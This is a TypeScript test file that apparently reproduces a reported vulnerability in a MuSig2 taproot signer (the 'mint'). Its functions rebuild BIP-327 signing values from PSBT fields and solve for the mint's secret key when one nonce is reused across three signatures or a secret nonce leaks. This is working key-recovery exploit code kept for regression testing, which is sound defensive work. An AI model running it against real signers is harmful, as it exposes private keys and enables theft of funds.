/**
 * The attack of issue 38, Found 1, in test code: three MuSig2 key-path signatures of one
 * contract, made with ONE secret nonce of the mint and three different messages, give the
 * mint's secret key. Nothing here comes from the signing path: BIP-327's nonce
 * aggregation, nonce coefficient and challenge are written out below, KeyAgg and the
 * taproot tweak come from ../independent/keys.ts, the BIP-341 sighash from
 * ../independent/sighash.ts, transactions and PSBT maps are read by test code.
 *
 * BIP-327: each final signature is s_i = s_user,i + s_mint,i + e_i·g·tacc, and the mint's
 * partial signature is
 *     s_mint,i = ε_i·(k1 + b_i·k2) + e_i·a·g·gacc·x      (ε_i = 1 if R_i has an even y, else −1)
 * The colluding user knows its own partial (it is in its request's PSBT, BIP-373), so each
 * signature is one linear equation in k1, k2 and D = a·g·gacc·x (mod n); three solve it.
 */
import { applyTweak, keyAgg, keySort, tapTweak } from '../independent/keys.ts';
import { keyPathSigHash } from '../independent/sighash.ts';
import { G, N, decodeCompressed, encodeCompressed, hasEvenY, int, pointAdd, pointMul, taggedHash, xOnly, type Point } from '../independent/secp256k1.ts';
import { bytesOf, parseTx, type TxOutput } from '../independent/tx.ts';

export const mod = (a: bigint): bigint => ((a % N) + N) % N;

export function inverse(a: bigint): bigint {
  let [r, e, b] = [1n, N - 2n, mod(a)];
  while (e > 0n) {
    if (e & 1n) r = (r * b) % N;
    b = (b * b) % N;
    e >>= 1n;
  }
  if (mod(a) === 0n) throw new Error('no inverse of 0');
  return r;
}

/** BIP-174 maps of a v0 PSBT: the global map, then input 0's. */
function input0Map(psbt: Uint8Array): Map<string, Uint8Array> {
  let pos = 5;
  const compact = (): number => {
    const f = psbt[pos++]!;
    if (f < 0xfd) return f;
    const n = f === 0xfd ? 2 : f === 0xfe ? 4 : 8;
    const v = Buffer.from(psbt.subarray(pos, pos + n)).readUIntLE(0, Math.min(n, 6));
    pos += n;
    return v;
  };
  const map = () => {
    const m = new Map<string, Uint8Array>();
    for (;;) {
      const kl = compact();
      if (kl === 0) return m;
      const key = psbt.subarray(pos, pos + kl);
      pos += kl;
      const vl = compact();
      m.set(Buffer.from(key).toString('hex'), psbt.subarray(pos, pos + vl));
      pos += vl;
    }
  };
  if (Buffer.from(psbt.subarray(0, 5)).toString('hex') !== '70736274ff') throw new Error('not a PSBT');
  map(); // global
  return map();
}

/** BIP-373 fields of input 0 by participant (33-byte key, hex): public nonces (0x1b) and partial signatures (0x1c). */
export function musigFields(psbt: Uint8Array): { pubnonces: Map<string, Uint8Array>; psigs: Map<string, Uint8Array> } {
  const pubnonces = new Map<string, Uint8Array>();
  const psigs = new Map<string, Uint8Array>();
  for (const [k, v] of input0Map(psbt)) {
    const key = Buffer.from(k, 'hex');
    if (key[0] === 0x1b) pubnonces.set(key.subarray(1, 34).toString('hex'), v);
    if (key[0] === 0x1c) psigs.set(key.subarray(1, 34).toString('hex'), v);
  }
  return { pubnonces, psigs };
}

/** One signing session the attacker saw: the user's request (its PSBT) and the state the mint signed. */
export type Session = { psbt: Uint8Array; signedTx: string; prevout: TxOutput };

type Equation = { u: bigint; b: bigint; c: bigint; mintNonce: string };

/** The equation u = k1 + b·k2 + c·D a session gives (after multiplying by ε). */
function equation(s: Session, userPub: Uint8Array, mintPub: Uint8Array): { eq: Equation; g: bigint; gacc: bigint; a: bigint } {
  const sorted = keySort([userPub, mintPub]);
  const inner = keyAgg(sorted);
  const ctx = applyTweak(inner, tapTweak(xOnly(inner.Q)), true);
  const Q = ctx.Q!;
  const g = hasEvenY(Q) ? 1n : N - 1n;
  const L = taggedHash('KeyAgg list', ...sorted);
  const second = sorted.find((pk) => Buffer.compare(pk, sorted[0]!) !== 0)!;
  const coeff = (pk: Uint8Array) => (Buffer.compare(pk, second) === 0 ? 1n : int(taggedHash('KeyAgg coefficient', L, pk)) % N);

  const tx = parseTx(bytesOf(s.signedTx));
  const sig = tx.inputs[0]!.witness[0]!;
  if (sig.length !== 64) throw new Error('not a SIGHASH_DEFAULT key-path signature');
  const msg = keyPathSigHash(tx, [s.prevout], 0, 0x00);
  const { pubnonces, psigs } = musigFields(s.psbt);
  const hex = (b: Uint8Array) => Buffer.from(b).toString('hex');
  const nu = pubnonces.get(hex(userPub));
  const nm = pubnonces.get(hex(mintPub));
  const su = psigs.get(hex(userPub));
  if (!nu || !nm || !su) throw new Error('the request carries no nonce of each party, or no partial signature of the user');
  // NonceAgg, then the session values.
  const R1 = pointAdd(decodeCompressed(nu.subarray(0, 33)), decodeCompressed(nm.subarray(0, 33)));
  const R2 = pointAdd(decodeCompressed(nu.subarray(33, 66)), decodeCompressed(nm.subarray(33, 66)));
  const ext = (p: Point) => (p === null ? new Uint8Array(33) : encodeCompressed(p));
  const b = int(taggedHash('MuSig/noncecoef', ext(R1), ext(R2), xOnly(Q), msg)) % N;
  const R = (pointAdd(R1, pointMul(R2, b)) ?? G)!;
  if (Buffer.compare(xOnly(R), sig.subarray(0, 32)) !== 0) throw new Error('the signature was not made in this session (its R differs)');
  const e = int(taggedHash('BIP0340/challenge', xOnly(R), xOnly(Q), msg)) % N;
  const sMint = mod(int(sig.subarray(32)) - int(su) - e * g * ctx.tacc);
  const eps = hasEvenY(R) ? 1n : N - 1n;
  return { eq: { u: mod(eps * sMint), b, c: mod(eps * e), mintNonce: hex(nm) }, g, gacc: ctx.gacc, a: coeff(mintPub) };
}

/**
 * The mint's secret key from three sessions signed with one mint nonce, or undefined when
 * the sessions do not share one (or there are fewer than three).
 */
export function solveMintKey(sessions: readonly Session[], userPub: Uint8Array, mintPub: Uint8Array): bigint | undefined {
  if (sessions.length < 3) return undefined;
  const solved = sessions.slice(0, 3).map((s) => equation(s, userPub, mintPub));
  const [e1, e2, e3] = solved.map((x) => x.eq) as [Equation, Equation, Equation];
  if (new Set([e1.mintNonce, e2.mintNonce, e3.mintNonce]).size !== 1) return undefined;
  // Subtract the first equation from the others: (u_i − u_1) = (b_i − b_1)·k2 + (c_i − c_1)·D.
  const [a1, b1, y1] = [mod(e2.b - e1.b), mod(e2.c - e1.c), mod(e2.u - e1.u)];
  const [a2, b2, y2] = [mod(e3.b - e1.b), mod(e3.c - e1.c), mod(e3.u - e1.u)];
  const det = mod(a1 * b2 - a2 * b1);
  if (det === 0n) return undefined;
  const D = mod((a1 * y2 - a2 * y1) * inverse(det));
  const { a, g, gacc } = solved[0]!;
  const x = mod(D * inverse(mod(a * g * gacc)));
  return Buffer.compare(encodeCompressed(pointMul(G, x)), mintPub) === 0 ? x : undefined;
}

/**
 * The mint's secret key from ONE session whose mint secret nonce (k1 ‖ k2 ‖ pk) the attacker
 * read: ε·s_mint = k1 + b·k2 + ε·e·a·g·gacc·x.
 */
export function mintKeyFromKnownNonce(s: Session, userPub: Uint8Array, mintPub: Uint8Array, secnonce: Uint8Array): bigint {
  const { eq, a, g, gacc } = equation(s, userPub, mintPub);
  const [k1, k2] = [int(secnonce.subarray(0, 32)), int(secnonce.subarray(32, 64))];
  const D = mod((eq.u - k1 - eq.b * k2) * inverse(eq.c));
  return mod(D * inverse(mod(a * g * gacc)));
}
